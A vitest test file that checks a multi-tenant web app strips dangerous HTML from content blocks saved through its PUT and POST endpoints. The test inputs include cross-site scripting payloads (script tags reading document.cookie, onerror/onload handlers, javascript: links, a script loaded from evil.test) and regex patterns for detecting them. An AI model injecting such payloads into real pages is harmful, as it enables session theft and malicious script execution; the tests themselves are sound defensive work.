import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../../test/build-test-app.ts';
import { DIALECTS } from '../../test/dialects.ts';
import { bearer, demoTenantAndAdmin, issueAccessToken } from '../../test/factories.ts';

const base = '/api/denuncias/den_denuncia_content';
const galleryImage = '/denuncias/recursos/0123456789abcdef0123456789abcdef.png';

/** What the Contenidos screen saves: the rich-text editor's HTML, wrapped under the resource name. */
for (const dialect of DIALECTS) {
  describe(`content blocks: HTML sanitised on every save [${dialect}]`, () => {
    let t: TestApp;
    let adminToken: string;
    let publicToken: string;

    beforeAll(async () => {
      t = await buildTestApp(dialect);
      const { idcliente, admin } = await demoTenantAndAdmin(t.app);
      adminToken = await issueAccessToken(t.app, idcliente, 'Privado', admin);
      publicToken = await issueAccessToken(t.app, idcliente, 'Publico');
    });
    afterAll(async () => t.close());

    async function storedBody(idcontent: number): Promise<string> {
      const row = await t.app.db
        .selectFrom('den_denuncia_content')
        .select('contenido')
        .where('idcontent', '=', idcontent)
        .executeTakeFirstOrThrow();
      return row.contenido;
    }

    it('PUT: <script> and onerror= are gone from the stored and the public body; a gallery image stays', async () => {
      const created = await t.app.inject({
        method: 'POST',
        url: `${base}/`,
        headers: bearer(adminToken),
        payload: {
          den_denuncia_content: { codigo: 'html-put', ididioma: 1, titulo: 'Prueba', contenido: '<p>v1</p>' },
        },
      });
      expect(created.statusCode).toBe(200);
      const { idcontent } = created.json().data;

      const dirty =
        `<p>Texto <strong>importante</strong></p><script>document.cookie</script>` +
        `<p><img src="${galleryImage}" alt="Cartel" onerror="fetch('https://evil.test')"></p>` +
        `<img src="data:image/png;base64,AAAA" onload="alert(1)"><p onmouseover="alert(2)">fin</p>`;
      const updated = await t.app.inject({
        method: 'PUT',
        url: `${base}/`,
        headers: bearer(adminToken),
        payload: {
          den_denuncia_content: { idcontent, codigo: 'html-put', ididioma: 1, titulo: 'Prueba', contenido: dirty },
        },
      });
      expect(updated.statusCode).toBe(200);
      const answered: string = updated.json().data.contenido;
      const stored = await storedBody(idcontent);
      expect(stored).toBe(answered);
      for (const html of [answered, stored]) {
        expect(html).not.toMatch(/<script|document\.cookie|onerror=|onload=|onmouseover=|data:image|evil\.test/i);
        expect(html).toContain('<p>Texto <strong>importante</strong></p>');
        expect(html).toContain(`<img src="${galleryImage}" alt="Cartel" />`);
        expect(html).toContain('<p>fin</p>');
      }

      const publicRead = await t.app.inject({
        method: 'POST',
        url: `${base}/GetList`,
        headers: bearer(publicToken),
        payload: {
          start: 0,
          length: 10,
          columns: [
            { name: 'codigo', data: 'html-put' },
            { name: 'ididioma', data: 1 },
          ],
        },
      });
      expect(publicRead.statusCode).toBe(200);
      expect(publicRead.json().data).toEqual([expect.objectContaining({ idcontent, contenido: stored })]);
    });

    it('POST: an unclosed or obfuscated script and event handlers never reach the database', async () => {
      const dirty =
        '<p>a</p><SCRIPT SRC=https://evil.test/x.js></SCRIPT><svg onload=alert(1)><p>b</p></svg>' +
        '<img src=x.png OnError="alert(1)"><a href=" javascript:alert(1)">c</a><script>alert(1)';
      const res = await t.app.inject({
        method: 'POST',
        url: `${base}/`,
        headers: bearer(adminToken),
        payload: { den_denuncia_content: { codigo: 'html-post', ididioma: 2, contenido: dirty } },
      });
      expect(res.statusCode).toBe(200);
      const stored = await storedBody(res.json().data.idcontent);
      expect(stored).not.toMatch(/script|onerror|onload|javascript:|<svg|evil\.test|alert/i);
      expect(stored).toContain('<p>a</p>');
      expect(stored).toContain('<img src="x.png" />');
    });
  });
}
